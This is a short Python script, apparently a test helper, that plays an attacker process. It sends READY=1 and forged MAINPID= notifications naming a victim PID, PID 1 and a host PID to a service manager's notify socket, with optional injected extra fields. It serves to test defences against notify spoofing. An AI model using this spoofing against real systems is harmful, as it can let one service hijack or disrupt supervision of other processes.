# The attacker's main process: waits for the victim's pid, then sends
# READY=1 with forged MAINPID= claims (EXTRA appended to the first), one
# datagram each, and stays.  argv: DIR NAME EXTRA
import os, socket, sys, time
d, name = sys.argv[1], sys.argv[2]
extra = sys.argv[3].replace("\\n", "\n") if len(sys.argv) > 3 else ""
while not os.path.exists(d + "/victim") or not os.path.getsize(d + "/victim"):
    time.sleep(0.05)
time.sleep(0.05)
victim = open(d + "/victim").read().strip()
hostpid = open(d + "/hostpid").read().strip()
path = os.environ["NOTIFY_SOCKET"]
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
for m in ["READY=1\nMAINPID=" + victim + extra, "MAINPID=1", "MAINPID=" + hostpid]:
    s.sendto(m.encode(), path)
    time.sleep(0.05)
open(d + "/" + name + ".sent", "w").close()
time.sleep(1000)
